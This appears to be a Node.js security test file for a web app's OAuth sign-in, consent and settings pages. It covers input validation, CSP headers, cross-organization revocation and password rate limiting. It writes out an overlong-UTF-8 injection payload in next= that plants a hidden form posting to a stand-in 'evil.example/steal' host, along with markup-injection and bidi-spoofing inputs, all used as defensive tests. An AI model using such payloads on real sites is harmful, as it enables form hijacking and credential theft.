// The web pages against hostile input and standing, over plain HTTP
// with the cookie-keeping browser of lib/oauth.mjs:
//
// - query and form values that are not strict UTF-8 (overlong forms
//   that libxml2 would decode to '"', '<', '>') are refused with a 400
//   page, and no page ever shows a second, foreign form;
// - next= holds printable ASCII only;
// - the CSP has form-action 'self' on the sign-in and Settings pages,
//   not on the consent page (whose POST redirects to the client);
// - client names with bidi overrides or zero-width characters are
//   refused at registration;
// - an admin of one organization cannot revoke a connection that also
//   reaches an organization they have no role in, and does not see
//   that organization's name; /settings/integrations/revoke acts on
//   the user's own connections only;
// - parallel wrong passwords get at most 5 real password checks.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';

import { Lejr, handshake } from './lib/server.mjs';
import { Browser, parseForms, formBody, codeFor, redeem, register } from
  './lib/oauth.mjs';

const PASSWORD = 'correct horse battery staple';
const CAT = { email: 'cat@example.com', password: PASSWORD };
const BOB = { email: 'bob@example.com', password: PASSWORD };

let lejr, base;

before(async () => {
  lejr = new Lejr({ stdin: `${PASSWORD}\n` });
  lejr.ctl('org', 'create', 'acme', 'Acme Secret Ltd', 'EUR');
  lejr.ctl('org', 'create', 'beta', 'Beta GmbH', 'EUR');
  // cat works in both; bob is an admin of beta only.
  lejr.ctl('user', 'create', CAT.email, 'Cat', '--password-stdin');
  lejr.ctl('member', 'set', 'acme', CAT.email, 'accountant');
  lejr.ctl('member', 'set', 'beta', CAT.email, 'accountant');
  lejr.ctl('user', 'create', BOB.email, 'Bob', '--password-stdin');
  lejr.ctl('member', 'set', 'beta', BOB.email, 'admin');
  await lejr.start();
  base = lejr.base;
});

after(async () => {
  await lejr?.stop();
  lejr?.cleanup();
});

// A browser signed in as who.
async function signedIn(who) {
  const b = new Browser(base);
  const r = await b.follow(`${base}/settings/integrations`);
  const page = await b.signIn(r, who.email, who.password);
  assert.equal(new URL(page.url).pathname, '/settings/integrations');
  return b;
}

// Count the <form> elements and forms posting off-site in a page.
function forms(html) {
  return {
    all: (html.match(/<form\b/gi) ?? []).length,
    evil: /action\s*=\s*["']?https?:\/\/evil/i.test(html),
  };
}

// The injection of the report: overlong '"', '>', '<' and ' ' in next=.
const INJECTION = '/x%C0%A2%C0%BE%C0%BC/form%C0%BE%C0%BCform%C0%A0' +
  'action=https://evil.example/steal%C0%A0method=post%C0%BE%C0%BCinput' +
  '%C0%A0type=hidden%C0%A0name=a%C0%A0value=%C0%A2';

test('overlong UTF-8 in next= is refused, no second form', async () => {
  const r = await fetch(`${base}/login?next=${INJECTION}`);
  const html = await r.text();
  assert.equal(r.status, 400);
  assert.equal(forms(html).evil, false, html);
  assert.ok(forms(html).all <= 1, html);
  assert.doesNotMatch(html, /evil\.example/);
  assert.match(html, /not UTF-8 text/);
  // The 400 page carries the security headers too.
  assert.match(r.headers.get('content-security-policy'),
    /form-action 'self'/);
});

test('a lone 0xff byte in next= is refused cleanly', async () => {
  const logBefore = lejr.log.length;
  const r = await fetch(`${base}/login?next=/%ff`);
  const html = await r.text();
  assert.equal(r.status, 400);
  assert.match(html, /<\/html>\s*$/, 'a whole page');
  assert.doesNotMatch(lejr.log.slice(logBefore), /encoder error/);

  // A page still works afterwards.
  const ok = await fetch(`${base}/login`);
  assert.equal(ok.status, 200);
  assert.match(await ok.text(), /<\/html>\s*$/);
});

test('non-ASCII next= is not echoed into the sign-in form', async () => {
  // Valid UTF-8, but not a path of ours: the form goes without next=.
  const r = await fetch(`${base}/login?next=/caf%C3%A9`);
  assert.equal(r.status, 200);
  const form = parseForms(await r.text())
    .find((f) => f.action === '/login');
  assert.ok(form);
  assert.equal(form.fields.some((f) => f.name === 'next'), false);
});

test('a form value that is not UTF-8 is refused, and nobody signs in',
  async () => {
    const b = new Browser(base);
    const page = await b.get(`${base}/login`);
    const form = parseForms(page.text).find((f) => f.action === '/login');
    const body = formBody(form, { set: { email: CAT.email,
      password: PASSWORD } }).toString() + '&next=/%C0%BCx';
    const r = await b.request(`${base}/login`, { method: 'POST', body,
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' } });
    assert.equal(r.status, 400);
    assert.equal(b.jar.has('lejr_session'), false);
    const ctl = await b.request(`${base}/login`, { method: 'POST',
      body: formBody(form, { set: { email: CAT.email,
        password: 'bell\x07' } }).toString(),
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' } });
    assert.equal(ctl.status, 400, 'control characters are refused too');
  });

test('Activity: an overlong tool filter injects no markup', async () => {
  const b = await signedIn(CAT);
  const r = await b.get(`${base}/settings/activity?org=acme&tool=` +
    '%C0%A2%C0%BE%C0%BCh1%C0%BEINJ');
  assert.equal(r.status, 400);
  assert.doesNotMatch(r.text, /<h1>INJ/);
  assert.doesNotMatch(r.text, /INJ/);

  // Ordinary non-ASCII text still works and comes back escaped.
  const ok = await b.get(`${base}/settings/activity?org=acme&tool=` +
    encodeURIComponent('caf\u00e9"><b>'));
  assert.equal(ok.status, 200);
  assert.doesNotMatch(ok.text, /"><b>/);
});

test('the CSP: form-action on sign-in and Settings, not on consent',
  async () => {
    const login = await fetch(`${base}/login`);
    assert.match(login.headers.get('content-security-policy'),
      /form-action 'self'/);

    const b = await signedIn(CAT);
    const settings = await b.get(`${base}/settings/connections`);
    assert.equal(settings.status, 200);
    assert.match(settings.headers.get('content-security-policy'),
      /form-action 'self'/);

    const reg = await register(base, { client_name: 'csp probe',
      redirect_uris: ['http://127.0.0.1:33418/cb'],
      token_endpoint_auth_method: 'none' });
    assert.equal(reg.status, 201, reg.text);
    const q = new URLSearchParams({ response_type: 'code',
      client_id: reg.json.client_id,
      redirect_uri: 'http://127.0.0.1:33418/cb',
      code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
      code_challenge_method: 'S256', state: 's1' });
    const consent = await b.get(`${base}/authorize?${q}`);
    assert.equal(consent.status, 200, consent.text.slice(0, 300));
    assert.match(consent.text, /Allow access/);
    const csp = consent.headers.get('content-security-policy');
    assert.match(csp, /frame-ancestors 'none'/);
    assert.doesNotMatch(csp, /form-action/);
  });

test('client names that could spoof a consent page are refused',
  async () => {
    for (const name of ['Claude\u202Egpj.exe', 'Cla\u200Bude',
      'a\u2066b\u2069', 'x\u0085y', 'line\u2028break']) {
      const r = await register(base, { client_name: name,
        redirect_uris: ['http://127.0.0.1:33418/cb'] });
      assert.equal(r.status, 400, `${JSON.stringify(name)}: ${r.text}`);
      assert.equal(r.json.error, 'invalid_client_metadata');
    }
    const ok = await register(base, { client_name: 'Z\u00f6e \u05e2\u05d1',
      redirect_uris: ['http://127.0.0.1:33418/cb'] });
    assert.equal(ok.status, 201, ok.text);
  });

// A live connection of cat's reaching acme and beta: its id (cN) and
// its access token.
async function catsConnection() {
  const cat = new Browser(base);
  const g = await codeFor(base, cat, { ...CAT, orgs: ['acme', 'beta'],
    register: { client_name: 'Cat desk' } });
  const t = await redeem(base, g);
  assert.equal(t.status, 200, t.text);
  const mine = await signedIn(CAT);
  const list = await mine.get(`${base}/settings/connections`);
  const ids = [...list.text.matchAll(/\/settings\/connections\/c(\d+)/g)]
    .map((m) => Number(m[1]));
  assert.ok(ids.length > 0, list.text);
  return { id: Math.max(...ids), access: t.json.access_token, mine };
}

async function works(access) {
  try {
    await handshake(lejr.url, access);
    return true;
  } catch {
    return false;
  }
}

test('an admin of one organization cannot revoke a connection that ' +
  'also reaches another', async () => {
  const { id, access, mine } = await catsConnection();
  assert.ok(await works(access));

  // bob (admin of beta only) sees it, but not acme's name.
  const bob = await signedIn(BOB);
  const list = await bob.get(`${base}/settings/connections`);
  assert.equal(list.status, 200);
  assert.match(list.text, /Cat desk/);
  assert.doesNotMatch(list.text, /acme|Acme Secret/);
  assert.match(list.text, /another organization/);
  const item = await bob.get(`${base}/settings/connections/c${id}`);
  assert.equal(item.status, 200);
  assert.doesNotMatch(item.text, /acme|Acme Secret/);
  assert.equal(parseForms(item.text)
    .some((f) => f.action.endsWith('/revoke')), false,
  'no Revoke button for bob');

  // Posting the revoke anyway: 403, and the connection still works.
  const csrf = parseForms(list.text)
    .find((f) => f.action === '/logout').fields
    .find((f) => f.name === 'csrf').value;
  const post = (path, fields) => bob.request(`${base}${path}`, {
    method: 'POST', body: new URLSearchParams({ csrf, ...fields })
      .toString(),
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' } });
  const r1 = await post(`/settings/connections/c${id}/revoke`, {});
  assert.equal(r1.status, 403, r1.text.slice(0, 300));
  assert.doesNotMatch(r1.text, /acme|Acme Secret/);
  assert.ok(await works(access), 'still works after the refused revoke');

  // Integrations' revoke acts on bob's own connections only.
  const r2 = await post('/settings/integrations/revoke', { id: String(id) });
  assert.equal(r2.status, 404, r2.text.slice(0, 300));
  assert.ok(await works(access), 'still works after the integrations try');

  // Unbinding acme is refused as before.
  const beta = parseForms(item.text).flatMap((f) => f.choices)
    .find((c) => /beta/.test(c.label));
  if (beta) {
    const r3 = await post(`/settings/connections/c${id}/orgs`,
      { mode: 'single', org: beta.value });
    assert.equal(r3.status, 403);
  }
  assert.ok(await works(access));

  // cat, its user, may revoke it from Integrations.
  const own = await mine.get(`${base}/settings/integrations`);
  const form = parseForms(own.text)
    .find((f) => f.action === '/settings/integrations/revoke' &&
      f.fields.some((x) => x.name === 'id' && x.value === String(id)));
  assert.ok(form, own.text);
  const r4 = await mine.submit(own.url, form, formBody(form));
  assert.equal(r4.status, 303);
  assert.equal(await works(access), false, 'revoked by its user');
});

test('parallel wrong passwords get at most 5 real checks', async () => {
  const other = new Lejr({ stdin: `${PASSWORD}\n` });
  other.ctl('user', 'create', 'dan@example.com', 'Dan',
    '--password-stdin');
  await other.start();
  try {
    const tries = await Promise.all(Array.from({ length: 40 }, async () => {
      const b = new Browser(other.base);
      const page = await b.get(`${other.base}/login`);
      const form = parseForms(page.text).find((f) => f.action === '/login');
      return b.submit(page.url, form, formBody(form, { set: {
        email: 'dan@example.com', password: 'wrong' } }));
    }));
    const checked = tries.filter((r) => r.status === 200).length;
    const refused = tries.filter((r) => r.status === 429).length;
    assert.equal(checked, 5, `checked ${checked}`);
    assert.equal(refused, 35);

    // And the right password is refused now too (the lockout).
    const b = new Browser(other.base);
    const page = await b.get(`${other.base}/login`);
    const form = parseForms(page.text).find((f) => f.action === '/login');
    const r = await b.submit(page.url, form, formBody(form, { set: {
      email: 'dan@example.com', password: PASSWORD } }));
    assert.equal(r.status, 429);
  } finally {
    await other.stop();
    other.cleanup();
  }
});
